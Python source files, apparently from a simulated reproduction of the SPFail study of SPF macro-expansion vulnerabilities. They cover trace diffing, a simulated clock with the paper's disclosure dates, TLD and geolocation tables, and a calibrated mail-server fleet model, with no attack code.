    fields: List[str] = field(default_factory=list)
    #: attrs key → (left value or None, right value or None).
    attrs_delta: Dict[str, Tuple[object, object]] = field(default_factory=dict)

    def render(self, left_label: str = "left", right_label: str = "right") -> str:
        lines = [f"first divergence at event {self.index}"]
        anchor = self.left or self.right
        if anchor is not None:
            lines[0] += f" (scope={anchor.scope}, seq={anchor.seq})"
        if self.context:
            lines.append("  shared context:")
            for event in self.context:
                lines.append(f"    [{event.index}] {_describe(event)}")
        if self.left is None:
            lines.append(f"  {left_label}: <trace ends here>")
        else:
            lines.append(f"  {left_label}:  [{self.left.index}] {_describe(self.left)}")
        if self.right is None:
            lines.append(f"  {right_label}: <trace ends here>")
        else:
            lines.append(
                f"  {right_label}: [{self.right.index}] {_describe(self.right)}"
            )
        if self.fields:
            lines.append(f"  differing fields: {', '.join(self.fields)}")
        for key in sorted(self.attrs_delta):
            left_value, right_value = self.attrs_delta[key]
            lines.append(
                f"  attrs[{key!r}]: {left_label}={left_value!r} "
                f"{right_label}={right_value!r}"
            )
        return "\n".join(lines)


def _describe(event: ParsedEvent) -> str:
    stamp = event.vt.isoformat() if event.vt is not None else "-"
    return (
        f"{event.name} scope={event.scope} seq={event.seq} "
        f"vt={stamp} probe={event.probe or '-'}"
    )


def _field_value(event: ParsedEvent, name: str) -> object:
    value = getattr(event, name)
    if name == "vt":
        return value.isoformat() if value is not None else None
    return value


def _delta(left: ParsedEvent, right: ParsedEvent) -> Tuple[List[str], Dict]:
    fields = [
        name
        for name in _FIELDS
        if _field_value(left, name) != _field_value(right, name)
    ]
    attrs_delta: Dict[str, Tuple[object, object]] = {}
    for key in sorted(set(left.attrs) | set(right.attrs)):
        left_value = left.attrs.get(key)
        right_value = right.attrs.get(key)
        if left_value != right_value:
            attrs_delta[key] = (left_value, right_value)
    if attrs_delta:
        fields.append("attrs")
    return fields, attrs_delta


def _as_events(trace: TraceLike) -> List[ParsedEvent]:
    if isinstance(trace, Tracer):
        return from_tracer(trace)
    if isinstance(trace, str):
        return load_jsonl(trace)
    return list(trace)


def diff_events(
    left: TraceLike, right: TraceLike, *, context: int = 3
) -> Optional[TraceDivergence]:
    """First divergence between two traces, or ``None`` when identical.

    Accepts parsed event lists, live tracers, or file paths; events are
    compared on their canonical serialization, so the result is exactly
    the byte-identity check with a usable error report.
    """
    left_events = _as_events(left)
    right_events = _as_events(right)
    shared = min(len(left_events), len(right_events))
    for i in range(shared):
        if left_events[i].to_json() == right_events[i].to_json():
            continue
        fields, attrs_delta = _delta(left_events[i], right_events[i])
        return TraceDivergence(
            index=i,
            left=left_events[i],
            right=right_events[i],
            context=left_events[max(0, i - context): i],
            fields=fields,
            attrs_delta=attrs_delta,
        )
    if len(left_events) != len(right_events):
        longer = left_events if len(left_events) > len(right_events) else right_events
        return TraceDivergence(
            index=shared,
            left=left_events[shared] if len(left_events) > shared else None,
            right=right_events[shared] if len(right_events) > shared else None,
            context=longer[max(0, shared - context): shared],
        )
    return None


def diff_files(
    left_path: str, right_path: str, *, context: int = 3
) -> Optional[TraceDivergence]:
    """Diff two ``--trace`` JSONL files (thin wrapper over the above)."""
    return diff_events(left_path, right_path, context=context)


def assert_traces_identical(
    left: TraceLike,
    right: TraceLike,
    *,
    context: int = 3,
    left_label: str = "left",
    right_label: str = "right",
) -> None:
    """Raise ``AssertionError`` with a divergence pointer unless identical."""
    divergence = diff_events(left, right, context=context)
    if divergence is not None:
        raise AssertionError(
            "traces diverge:\n" + divergence.render(left_label, right_label)
        )
