"""Observability: virtual-time tracing and metrics for the whole system.

The SPFail detection method is itself observational — a remote server's
vulnerability is inferred from nothing but the DNS queries its SPF macro
expansion emits — and this package makes the *reproduction* equally
observable: every probe becomes an auditable transcript, every subsystem
a metrics source.

- :mod:`repro.obs.trace` — spans and events stamped with virtual time
  from the simulation clock, carrying stable probe/task ids, exported as
  canonically ordered JSONL that is byte-identical between the serial
  and sharded executors for the same seed.
- :mod:`repro.obs.metrics` — named counters/gauges/histograms (SMTP
  reply codes, DNS queries per probe, macro expansions, retry/backoff,
  stage wall-time percentiles), generalizing
  :class:`repro.exec.metrics.StageMetrics`.
- :mod:`repro.obs.context` — the ambient :class:`Observation` that
  instrumented hot paths consult with a single global read, so the layer
  costs nothing when disabled (the default).
- :mod:`repro.obs.logbridge` — stdlib-``logging`` integration: console
  output for ``--log-level`` and a handler that mirrors ``repro.*``
  records into the trace.
- :mod:`repro.obs.records` / :mod:`repro.obs.analyze` — the consumption
  side: parse canonical JSONL back into typed records, reconstruct span
  trees and per-probe timelines, aggregate per-stage/per-span virtual
  time, and render the ``trace summary`` markdown and folded stacks.
- :mod:`repro.obs.diff` — determinism diff: the first divergent event
  between two traces, with scope/seq/attrs delta and context
  (``python -m repro trace diff A B``).
- :mod:`repro.obs.progress` — live stderr progress for a running
  campaign (``--progress``): stage, tasks done/total, probes/s, ETA.
- :mod:`repro.obs.perf` — the wall-clock sideband (``--perf <dir>``):
  per-span ``perf_counter`` timings and resource/cache-counter samples
  written to separate files that join the canonical trace by span id,
  consumed by ``trace profile``; deterministic artifacts stay
  byte-identical with perf on or off.
- :mod:`repro.obs.ledger` — the cross-run performance ledger: every
  ``run``/``resume``/benchmark appends one compact JSON record
  (config hash, env + git commit, throughput, stage wall attribution)
  to an append-only ``ledger.jsonl``; ``obs history`` renders trend
  tables and ``obs regress`` compares two slices with explicit noise
  gating (non-zero exit only on a *confirmed* regression).

Usage::

    from repro.api import RunConfig
    from repro.obs import Observation
    from repro.simulation import Simulation

    obs = Observation(trace=True)
    sim = Simulation.build(config=RunConfig(scale=0.01), observation=obs)
    sim.run()
    obs.tracer.write_jsonl("trace.jsonl")

or via the CLI: ``python -m repro --trace t.jsonl --metrics-out m.json``.
"""

from .analyze import TraceAnalysis
from .context import Observation, activate, active, deactivate, observing
from .diff import TraceDivergence, assert_traces_identical, diff_events, diff_files
from .ledger import ComparisonResult, LedgerError
from .logbridge import TraceLogHandler, attach_trace_handler, configure_logging
from .metrics import Counter, Gauge, Histogram, MetricsRegistry
from .perf import PerfProfile, PerfRecorder
from .progress import ProgressReporter
from .records import ParsedEvent, load_jsonl, parse_jsonl
from .trace import TraceEvent, Tracer

__all__ = [
    "ComparisonResult",
    "Counter",
    "Gauge",
    "Histogram",
    "LedgerError",
    "MetricsRegistry",
    "Observation",
    "ParsedEvent",
    "PerfProfile",
    "PerfRecorder",
    "ProgressReporter",
    "TraceAnalysis",
    "TraceDivergence",
    "TraceEvent",
    "TraceLogHandler",
    "Tracer",
    "activate",
    "active",
    "assert_traces_identical",
    "attach_trace_handler",
    "configure_logging",
    "deactivate",
    "diff_events",
    "diff_files",
    "load_jsonl",
    "observing",
    "parse_jsonl",
]
