"""A deterministic simulated clock.

Every time-dependent component in the reproduction (SMTP rate limiting,
greylisting, longitudinal measurement scheduling, patch events) reads time
from a :class:`SimulatedClock` instead of the wall clock, which makes full
four-month measurement campaigns run in milliseconds and reproducibly.

Times are modeled as :class:`datetime.datetime` values in UTC.  The paper's
timeline constants are exposed as module-level attributes so experiment code
and tests can reference the same dates as the paper:

>>> from repro.clock import PUBLIC_DISCLOSURE
>>> PUBLIC_DISCLOSURE.isoformat()
'2022-01-19T00:00:00+00:00'
"""

from __future__ import annotations

import datetime as _dt
from typing import Callable, List, Optional, Tuple

from .errors import SimulationError

UTC = _dt.timezone.utc


def utc(year: int, month: int, day: int, hour: int = 0, minute: int = 0) -> _dt.datetime:
    """Build a timezone-aware UTC datetime."""
    return _dt.datetime(year, month, day, hour, minute, tzinfo=UTC)


#: The paper's measurement / disclosure timeline (Section 5.3 and 6.4).
INITIAL_MEASUREMENT = utc(2021, 10, 11)
LONGITUDINAL_START = utc(2021, 10, 26)
PRIVATE_NOTIFICATION = utc(2021, 11, 15)
MEASUREMENTS_PAUSED = utc(2021, 11, 30)
MEASUREMENTS_RESUMED = utc(2022, 1, 15)
PUBLIC_DISCLOSURE = utc(2022, 1, 19)
FINAL_MEASUREMENT = utc(2022, 2, 14)
PACKAGE_MANAGER_NOTIFICATION = utc(2021, 10, 1)

#: CVE identifiers assigned at public disclosure.
CVE_IDS = ("CVE-2021-33912", "CVE-2021-33913")


class SimulatedClock:
    """A monotonically advancing simulated clock.

    The clock starts at ``start`` and only moves forward, via
    :meth:`advance` or :meth:`advance_to`.  Components can register
    callbacks to be fired when the clock passes a given instant, which is
    how scheduled events (patch releases, disclosure dates) are driven.
    """

    def __init__(self, start: _dt.datetime = INITIAL_MEASUREMENT) -> None:
        if start.tzinfo is None:
            raise SimulationError("clock start time must be timezone-aware")
        self._now = start
        self._callbacks: List[Tuple[_dt.datetime, Callable[[_dt.datetime], None]]] = []

    @property
    def now(self) -> _dt.datetime:
        """The current simulated instant."""
        return self._now

    def advance(self, delta: _dt.timedelta) -> _dt.datetime:
        """Move the clock forward by ``delta`` and fire due callbacks."""
        if delta < _dt.timedelta(0):
            raise SimulationError("cannot move the simulated clock backwards")
        return self.advance_to(self._now + delta)

    def advance_seconds(self, seconds: float) -> _dt.datetime:
        """Convenience: advance by a (non-negative) number of seconds."""
        return self.advance(_dt.timedelta(seconds=seconds))

    def advance_to(self, when: _dt.datetime) -> _dt.datetime:
        """Move the clock forward to ``when`` and fire due callbacks.

        Callbacks are fired in chronological order, each observing the
        instant it was scheduled for.
        """
        if when < self._now:
            raise SimulationError(
                f"cannot move the simulated clock backwards ({when} < {self._now})"
            )
        due = sorted(
            (cb for cb in self._callbacks if cb[0] <= when), key=lambda cb: cb[0]
        )
        for at, fn in due:
            self._callbacks.remove((at, fn))
            self._now = max(self._now, at)
            fn(at)
        self._now = when
        return self._now

    def schedule(self, when: _dt.datetime, fn: Callable[[_dt.datetime], None]) -> None:
        """Register ``fn`` to run when the clock reaches ``when``.

        Scheduling an instant that has already passed fires immediately.
        """
        if when <= self._now:
            fn(when)
        else:
            self._callbacks.append((when, fn))

    def pending(self) -> int:
        """Number of callbacks not yet fired."""
        return len(self._callbacks)

    def next_scheduled(
        self, *, until: Optional[_dt.datetime] = None
    ) -> Optional[_dt.datetime]:
        """The earliest pending callback instant (optionally capped).

        Returns ``None`` if nothing is scheduled, or nothing is scheduled
        at or before ``until``.  This is how a batching probe executor
        finds the next *event horizon* it must stop at.
        """
        earliest: Optional[_dt.datetime] = None
        for at, _fn in self._callbacks:
            if until is not None and at > until:
                continue
            if earliest is None or at < earliest:
                earliest = at
        return earliest

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"SimulatedClock(now={self._now.isoformat()})"
