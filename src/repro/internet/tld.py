"""TLD composition of the two domain sets (paper Table 2).

The head of each distribution uses the paper's exact counts; the long
tail is filled from a pool of additional country-code and generic TLDs
with geometrically decaying weights, so generated populations match the
paper's head proportions at any scale.

The module also carries the TLD → country/coordinate hints the
geolocation model uses, and the per-TLD patch-propensity groups behind
the paper's Table 5.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

#: Paper Table 2 — most common TLDs in the Alexa Top List set (counts out
#: of 418,842 domains).
ALEXA_TLD_HEAD: Dict[str, int] = {
    "com": 230_801,
    "ru": 19_844,
    "ir": 17_207,
    "net": 16_672,
    "org": 14_427,
    "in": 7_856,
    "io": 5_122,
    "au": 4_685,
    "vn": 4_326,
    "co": 4_250,
    "ua": 4_139,
    "tr": 4_117,
    "uk": 3_429,
    "id": 2_997,
    "ca": 2_835,
}
ALEXA_TOTAL = 418_842

#: Paper Table 2 — most common TLDs in the 2-Week MX set (of 22,911).
TWO_WEEK_TLD_HEAD: Dict[str, int] = {
    "com": 11_182,
    "org": 3_946,
    "edu": 2_108,
    "net": 1_441,
    "us": 828,
    "gov": 255,
    "uk": 241,
    "cam": 232,
    "ca": 172,
    "de": 149,
    "work": 142,
    "cn": 99,
    "au": 92,
    "it": 90,
    "top": 86,
}
TWO_WEEK_TOTAL = 22_911

#: Tail TLDs (beyond each table's head) used to fill the remainder.
TAIL_TLDS: Tuple[str, ...] = (
    "de", "fr", "pl", "cz", "br", "jp", "kr", "nl", "it", "es", "se", "ch",
    "at", "be", "dk", "no", "fi", "gr", "pt", "hu", "ro", "bg", "sk", "mx",
    "ar", "cl", "pe", "za", "eg", "ng", "ke", "il", "sa", "ae", "tw", "hk",
    "sg", "my", "th", "ph", "nz", "by", "kz", "info", "biz", "xyz", "online",
    "site", "club", "shop", "app", "dev", "me", "tv", "cc", "eu", "us", "il",
)


def _blend(head: Dict[str, int], total: int, tail_share_decay: float = 0.93) -> Dict[str, float]:
    """Head counts plus a geometric tail, normalized to probabilities."""
    weights = {tld: float(count) for tld, count in head.items()}
    remaining = total - sum(head.values())
    tail = [t for t in TAIL_TLDS if t not in head]
    # Geometric decay over the tail, scaled to consume `remaining`.
    raw = [tail_share_decay ** i for i in range(len(tail))]
    scale = remaining / sum(raw)
    for tld, weight in zip(tail, raw):
        weights[tld] = weight * scale
    norm = sum(weights.values())
    return {tld: weight / norm for tld, weight in weights.items()}


ALEXA_TLD_WEIGHTS: Dict[str, float] = _blend(ALEXA_TLD_HEAD, ALEXA_TOTAL)
TWO_WEEK_TLD_WEIGHTS: Dict[str, float] = _blend(TWO_WEEK_TLD_HEAD, TWO_WEEK_TOTAL)


@dataclass(frozen=True)
class TldInfo:
    """Geographic and behavioral hints for one TLD."""

    tld: str
    country: Optional[str]  # None for generic TLDs
    latitude: float
    longitude: float


#: ccTLD → (country, lat, lon).  Generic TLDs route through the global mix.
_CC: Dict[str, Tuple[str, float, float]] = {
    "ru": ("Russia", 55.7, 37.6),
    "ir": ("Iran", 35.7, 51.4),
    "in": ("India", 28.6, 77.2),
    "au": ("Australia", -33.9, 151.2),
    "vn": ("Vietnam", 21.0, 105.8),
    "co": ("Colombia", 4.7, -74.1),
    "ua": ("Ukraine", 50.5, 30.5),
    "tr": ("Turkey", 39.9, 32.9),
    "uk": ("United Kingdom", 51.5, -0.1),
    "id": ("Indonesia", -6.2, 106.8),
    "ca": ("Canada", 45.4, -75.7),
    "us": ("United States", 38.9, -77.0),
    "de": ("Germany", 52.5, 13.4),
    "fr": ("France", 48.9, 2.4),
    "pl": ("Poland", 52.2, 21.0),
    "cz": ("Czechia", 50.1, 14.4),
    "br": ("Brazil", -23.6, -46.6),
    "jp": ("Japan", 35.7, 139.7),
    "kr": ("South Korea", 37.6, 127.0),
    "nl": ("Netherlands", 52.4, 4.9),
    "it": ("Italy", 41.9, 12.5),
    "es": ("Spain", 40.4, -3.7),
    "se": ("Sweden", 59.3, 18.1),
    "ch": ("Switzerland", 47.4, 8.5),
    "at": ("Austria", 48.2, 16.4),
    "be": ("Belgium", 50.8, 4.4),
    "dk": ("Denmark", 55.7, 12.6),
    "no": ("Norway", 59.9, 10.8),
    "fi": ("Finland", 60.2, 24.9),
    "gr": ("Greece", 38.0, 23.7),
    "pt": ("Portugal", 38.7, -9.1),
    "hu": ("Hungary", 47.5, 19.0),
    "ro": ("Romania", 44.4, 26.1),
    "bg": ("Bulgaria", 42.7, 23.3),
    "sk": ("Slovakia", 48.1, 17.1),
    "mx": ("Mexico", 19.4, -99.1),
    "ar": ("Argentina", -34.6, -58.4),
    "cl": ("Chile", -33.5, -70.7),
    "pe": ("Peru", -12.0, -77.0),
    "za": ("South Africa", -26.2, 28.0),
    "eg": ("Egypt", 30.0, 31.2),
    "ng": ("Nigeria", 6.5, 3.4),
    "ke": ("Kenya", -1.3, 36.8),
    "il": ("Israel", 32.1, 34.8),
    "sa": ("Saudi Arabia", 24.7, 46.7),
    "ae": ("UAE", 25.2, 55.3),
    "tw": ("Taiwan", 25.0, 121.6),
    "hk": ("Hong Kong", 22.3, 114.2),
    "sg": ("Singapore", 1.4, 103.8),
    "my": ("Malaysia", 3.1, 101.7),
    "th": ("Thailand", 13.8, 100.5),
    "ph": ("Philippines", 14.6, 121.0),
    "nz": ("New Zealand", -36.8, 174.8),
    "by": ("Belarus", 53.9, 27.6),
    "kz": ("Kazakhstan", 51.2, 71.4),
    "cn": ("China", 39.9, 116.4),
    "eu": ("Europe", 50.8, 4.4),
}

#: Countries generic-TLD (com/net/org/...) domains are spread over, with
#: relative weights approximating the global mail-hosting footprint.
GENERIC_TLD_COUNTRY_MIX: Dict[str, float] = {
    "United States": 0.34,
    "Germany": 0.09,
    "France": 0.05,
    "United Kingdom": 0.05,
    "Netherlands": 0.04,
    "Russia": 0.05,
    "China": 0.04,
    "Japan": 0.03,
    "India": 0.04,
    "Brazil": 0.03,
    "Canada": 0.03,
    "Australia": 0.02,
    "Poland": 0.03,
    "Czechia": 0.02,
    "Turkey": 0.02,
    "South Korea": 0.02,
    "Italy": 0.02,
    "Spain": 0.02,
    "Iran": 0.02,
    "Ukraine": 0.02,
    "South Africa": 0.01,
    "Taiwan": 0.01,
}

_COUNTRY_COORDS: Dict[str, Tuple[float, float]] = {
    country: (lat, lon) for _, (country, lat, lon) in _CC.items()
}
_COUNTRY_COORDS["United States"] = (38.9, -77.0)


class TldModel:
    """Lookup helpers over the TLD tables."""

    @staticmethod
    def country_for(tld: str) -> Optional[str]:
        entry = _CC.get(tld.lower())
        return entry[0] if entry else None

    @staticmethod
    def coords_for_country(country: str) -> Tuple[float, float]:
        return _COUNTRY_COORDS.get(country, (38.9, -77.0))

    @staticmethod
    def is_country_code(tld: str) -> bool:
        return tld.lower() in _CC


#: Paper Table 5 — per-TLD probability that an initially vulnerable domain
#: is patched by the end of the four-month window.  ``None`` key is the
#: default (com's 15% serves as the global reference benchmark).
TLD_PATCH_RATES: Dict[Optional[str], float] = {
    "za": 0.79,
    "gr": 0.75,
    "de": 0.46,
    "eu": 0.29,
    "tr": 0.28,
    "com": 0.15,
    "ir": 0.03,
    "il": 0.03,
    "by": 0.02,
    "ru": 0.02,
    "tw": 0.00,
    None: 0.15,
}

#: TLDs whose operators patched almost entirely *before* public disclosure
#: (the paper's .za observation: 98% patched in the October/November
#: window, unprompted by the private notification).
PROACTIVE_PATCH_TLDS: Dict[str, float] = {"za": 0.98, "gr": 0.60}
