"""Synthetic IP geolocation (the paper used the DbIP database).

Each hosting unit is placed in a country — its ccTLD's country when it
has one, otherwise a draw from a global hosting mix — and every one of
its addresses gets coordinates jittered around that country's reference
point.  Figure 3's choropleth buckets aggregate those coordinates into
geographic cells.

Like the rest of the world model, geolocation is lazy: a unit's country
is a function of ``(seed, unit_id)`` and an address's jitter a function
of ``(seed, ip)``, so :class:`FleetGeoDatabase` answers any lookup on
first touch and caches it — holding the database costs O(located), not
O(world).  The dict-backed :class:`GeoDatabase` remains for hand-built
scenarios.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterable, Optional, Tuple

from .mta_fleet import MtaFleet
from .rng import SeededRng
from .tld import TldModel


@dataclass(frozen=True)
class GeoLocation:
    """Where one IP address sits."""

    latitude: float
    longitude: float
    country: str

    def bucket(self, cell_degrees: float = 10.0) -> Tuple[int, int]:
        """The geographic cell containing this location."""
        return (
            int(self.latitude // cell_degrees),
            int(self.longitude // cell_degrees),
        )


class GeoDatabase:
    """IP address → location, explicitly populated."""

    def __init__(self) -> None:
        self._by_ip: Dict[str, GeoLocation] = {}

    def locate(self, ip: str) -> Optional[GeoLocation]:
        return self._by_ip.get(ip)

    def __len__(self) -> int:
        return len(self._by_ip)

    def add(self, ip: str, location: GeoLocation) -> None:
        self._by_ip[ip] = location

    def bucket_counts(
        self, ips: Iterable[str], *, cell_degrees: float = 10.0
    ) -> Dict[Tuple[int, int], int]:
        """Frequency of addresses per geographic cell (Figure 3 data)."""
        counts: Dict[Tuple[int, int], int] = {}
        for ip in ips:
            location = self.locate(ip)
            if location is None:
                continue
            key = location.bucket(cell_degrees)
            counts[key] = counts.get(key, 0) + 1
        return counts

    def country_counts(self, ips: Iterable[str]) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for ip in ips:
            location = self.locate(ip)
            if location is None:
                continue
            counts[location.country] = counts.get(location.country, 0) + 1
        return counts


class FleetGeoDatabase(GeoDatabase):
    """Locations derived lazily from the fleet's hosting units.

    The country comes from the owning unit (pinned at materialization by
    :meth:`MtaFleet.bind_geography`); coordinates are the country's
    reference point plus a per-address jitter fork, so any lookup —
    including one on a shard replica or after a snapshot restore —
    regenerates the identical location.
    """

    def __init__(self, fleet: MtaFleet, seed: int) -> None:
        super().__init__()
        self._fleet = fleet
        self._root = SeededRng(seed).fork("geo")

    def locate(self, ip: str) -> Optional[GeoLocation]:
        cached = self._by_ip.get(ip)
        if cached is not None:
            return cached
        unit = self._fleet.unit_by_ip.get(ip)
        if unit is None:
            return None
        base_lat, base_lon = TldModel.coords_for_country(unit.country)
        rng = self._root.fork(f"ip-{ip}")
        location = GeoLocation(
            latitude=max(-85.0, min(85.0, base_lat + rng.uniform(-4.0, 4.0))),
            longitude=max(-179.0, min(179.0, base_lon + rng.uniform(-4.0, 4.0))),
            country=unit.country,
        )
        self._by_ip[ip] = location
        return location

    def __len__(self) -> int:
        # The addressable universe, not the touched subset: reserved
        # slots bound every address the fleet can ever answer for.
        return self._fleet.total_slot_count()


def assign_geography(fleet: MtaFleet, *, seed: int = 0) -> FleetGeoDatabase:
    """Place every hosting unit (and its IPs) on the map — lazily.

    Binds the seed into the fleet so each unit's ``country`` is set at
    materialization (the patching model reads it), and returns a
    database that resolves addresses on first touch.
    """
    fleet.bind_geography(seed)
    return FleetGeoDatabase(fleet, seed)
