"""Synthetic IP geolocation (the paper used the DbIP database).

Each hosting unit is placed in a country — its ccTLD's country when it
has one, otherwise a draw from a global hosting mix — and every one of
its addresses gets coordinates jittered around that country's reference
point.  Figure 3's choropleth buckets aggregate those coordinates into
geographic cells.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Tuple

from .mta_fleet import HostingUnit, MtaFleet
from .rng import SeededRng
from .tld import GENERIC_TLD_COUNTRY_MIX, TldModel


@dataclass(frozen=True)
class GeoLocation:
    """Where one IP address sits."""

    latitude: float
    longitude: float
    country: str

    def bucket(self, cell_degrees: float = 10.0) -> Tuple[int, int]:
        """The geographic cell containing this location."""
        return (
            int(self.latitude // cell_degrees),
            int(self.longitude // cell_degrees),
        )


class GeoDatabase:
    """IP address → location, built from a fleet."""

    def __init__(self) -> None:
        self._by_ip: Dict[str, GeoLocation] = {}

    def locate(self, ip: str) -> Optional[GeoLocation]:
        return self._by_ip.get(ip)

    def __len__(self) -> int:
        return len(self._by_ip)

    def add(self, ip: str, location: GeoLocation) -> None:
        self._by_ip[ip] = location

    def bucket_counts(
        self, ips: Iterable[str], *, cell_degrees: float = 10.0
    ) -> Dict[Tuple[int, int], int]:
        """Frequency of addresses per geographic cell (Figure 3 data)."""
        counts: Dict[Tuple[int, int], int] = {}
        for ip in ips:
            location = self._by_ip.get(ip)
            if location is None:
                continue
            key = location.bucket(cell_degrees)
            counts[key] = counts.get(key, 0) + 1
        return counts

    def country_counts(self, ips: Iterable[str]) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for ip in ips:
            location = self._by_ip.get(ip)
            if location is None:
                continue
            counts[location.country] = counts.get(location.country, 0) + 1
        return counts


def assign_geography(fleet: MtaFleet, *, seed: int = 0) -> GeoDatabase:
    """Place every hosting unit (and its IPs) on the map.

    Sets ``unit.country`` as a side effect so the patching model can use
    geography, and returns the IP-level database.
    """
    rng = SeededRng(seed).fork("geo")
    database = GeoDatabase()
    for unit in fleet.units:
        country = TldModel.country_for(unit.primary_tld)
        if country is None:
            country = rng.weighted_choice(GENERIC_TLD_COUNTRY_MIX)
        unit.country = country
        base_lat, base_lon = TldModel.coords_for_country(country)
        for ip in unit.all_ips:
            database.add(
                ip,
                GeoLocation(
                    latitude=max(-85.0, min(85.0, base_lat + rng.uniform(-4.0, 4.0))),
                    longitude=max(-179.0, min(179.0, base_lon + rng.uniform(-4.0, 4.0))),
                    country=country,
                ),
            )
    return database
