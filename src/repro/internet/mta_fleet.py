"""The mail-server fleet behind the domain population.

Domains are grouped into **hosting units** — one mail operator running one
software stack on one or more IP addresses.  Units come in two size
classes: *small* (1-2 domains, self-hosted) and *large* (3 to hundreds of
domains, shared hosting).  This size structure is what lets the model
reproduce the paper's consistent divergence between address-level and
domain-level rates: 47% of Alexa addresses refused connections but only
26% of domains did (parked singletons refuse); 23% of addresses were SPF-
measurable but 48% of domains were (shared hosts validate); 17% of
measured addresses were vulnerable but only 8.7% of measured domains were
(the biggest hosts run maintained software).

Per-class outcome probabilities are *solved at build time* from the
paper's Table 3 address-level and domain-level targets, given the
generated class shares — so the calibration holds at any scale and
survives changes to the size mixture.
"""

from __future__ import annotations

import datetime as _dt
import enum
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from ..dns.message import Message, Rcode
from ..dns.name import Name
from ..dns.rdata import A, MX, RRType, ResourceRecord
from ..dns.resolver import StubResolver
from ..dns.server import DnsBackend
from ..errors import SimulationError
from ..smtp.policies import (
    FailureStage,
    GreylistPolicy,
    RecipientPolicy,
    ServerPolicy,
    SpfTiming,
)
from ..smtp.server import SmtpServer, SpfStack
from ..smtp.transport import Network
from .population import (
    Domain,
    DomainPopulation,
    DomainSet,
    VULNERABLE_PROVIDER_DOMAINS,
)
from .rng import SeededRng


class UnitCategory(enum.Enum):
    """Which Table 3 outcome bucket a unit's servers land in."""

    REFUSE = "refuse"  # no TCP connection
    SMTP_FAILURE = "smtp-failure"  # fails the NoMsg dialogue, no SPF
    SPF_NOMSG = "spf-nomsg"  # SPF measurable from the NoMsg probe
    MESSAGE_FAILURE = "message-failure"  # fails only at end-of-data
    SPF_BLANKMSG = "spf-blankmsg"  # SPF measurable only from BlankMsg
    NO_SPF = "no-spf"  # accepts mail, never validates SPF

    @property
    def validates_spf(self) -> bool:
        return self in (UnitCategory.SPF_NOMSG, UnitCategory.SPF_BLANKMSG)


_CATEGORIES: Tuple[UnitCategory, ...] = (
    UnitCategory.REFUSE,
    UnitCategory.SMTP_FAILURE,
    UnitCategory.SPF_NOMSG,
    UnitCategory.MESSAGE_FAILURE,
    UnitCategory.SPF_BLANKMSG,
    UnitCategory.NO_SPF,
)


@dataclass(frozen=True)
class BehaviorMix:
    """SPF behavior probabilities among SPF-validating units.

    The remainder after the listed probabilities is RFC-compliant.
    ``vulnerable`` may be overridden per size class (see
    :func:`_solve_vulnerable_rates`).
    """

    vulnerable: float
    no_expansion: float
    reversed_not_truncated: float
    truncated_not_reversed: float
    static: float

    def sample(self, rng: SeededRng, *, vulnerable: Optional[float] = None) -> str:
        v = self.vulnerable if vulnerable is None else vulnerable
        compliant = 1.0 - (
            v
            + self.no_expansion
            + self.reversed_not_truncated
            + self.truncated_not_reversed
            + self.static
        )
        if compliant < 0:
            raise SimulationError("behavior mix probabilities exceed 1")
        return rng.categorical(
            [
                ("vulnerable-libspf2", v),
                ("no-expansion", self.no_expansion),
                ("reversed-not-truncated", self.reversed_not_truncated),
                ("truncated-not-reversed", self.truncated_not_reversed),
                ("static-expansion", self.static),
                ("rfc-compliant", compliant),
            ]
        )


def _targets(
    refuse: float, fail: float, spf_nomsg: float, msgfail: float, spf_blank: float
) -> Dict[UnitCategory, float]:
    """Unconditional six-bucket probabilities (NO_SPF is the remainder)."""
    values = {
        UnitCategory.REFUSE: refuse,
        UnitCategory.SMTP_FAILURE: fail,
        UnitCategory.SPF_NOMSG: spf_nomsg,
        UnitCategory.MESSAGE_FAILURE: msgfail,
        UnitCategory.SPF_BLANKMSG: spf_blank,
    }
    remainder = 1.0 - sum(values.values())
    if remainder < -1e-9:
        raise SimulationError("bucket targets exceed 1")
    values[UnitCategory.NO_SPF] = max(0.0, remainder)
    return values


@dataclass(frozen=True)
class FleetProfile:
    """Per-domain-set calibration (paper Table 3 and Table 4)."""

    #: Address-level unconditional bucket probabilities.
    ip_targets: Dict[UnitCategory, float]
    #: Domain-level unconditional bucket probabilities.
    domain_targets: Dict[UnitCategory, float]
    behavior_mix: BehaviorMix
    #: Vulnerable share among measured addresses / measured domains.
    vulnerable_ip_share: float
    vulnerable_domain_share: float
    #: Fraction of hosting units that are large (3+ domains).
    large_unit_fraction: float
    #: P(greylisting) among connecting units.
    greylist: float = 0.05
    #: P(a second, different SPF stack) among validating units (§7.9: 6%
    #: of measurable IPs showed multiple expansion patterns).
    multi_stack: float = 0.06
    #: P(unit starts rejecting the prober during the longitudinal phase).
    blacklist: float = 0.12
    #: P(unit migrates to new addresses mid-campaign).
    move: float = 0.03
    #: P(unit is flaky) and its per-session transient failure rate —
    #: the noise behind Figure 5's fluctuating conclusiveness.
    flaky: float = 0.20
    flaky_rate: float = 0.25


#: Alexa Top List: 174,679 addresses / 418,840 domains (Table 3 columns).
ALEXA_PROFILE = FleetProfile(
    ip_targets=_targets(
        refuse=81_515 / 174_679,
        fail=34_167 / 174_679,
        spf_nomsg=12_528 / 174_679,
        msgfail=2_209 / 174_679,
        spf_blank=27_139 / 174_679,
    ),
    domain_targets=_targets(
        refuse=109_559 / 418_840,
        fail=62_466 / 418_840,
        spf_nomsg=48_205 / 418_840,
        msgfail=6_512 / 418_840,
        spf_blank=151_753 / 418_840,
    ),
    behavior_mix=BehaviorMix(
        vulnerable=0.171,
        no_expansion=0.030,
        reversed_not_truncated=0.012,
        truncated_not_reversed=0.009,
        static=0.009,
    ),
    vulnerable_ip_share=0.173,
    vulnerable_domain_share=0.087,
    large_unit_fraction=0.09,
)

#: 2-Week MX: 11,203 addresses / 22,911 domains.
TWO_WEEK_PROFILE = FleetProfile(
    ip_targets=_targets(
        refuse=2_773 / 11_203,
        fail=2_032 / 11_203,
        spf_nomsg=1_953 / 11_203,
        msgfail=352 / 11_203,
        spf_blank=2_337 / 11_203,
    ),
    domain_targets=_targets(
        refuse=2_281 / 22_911,
        fail=1_187 / 22_911,
        spf_nomsg=2_399 / 22_911,
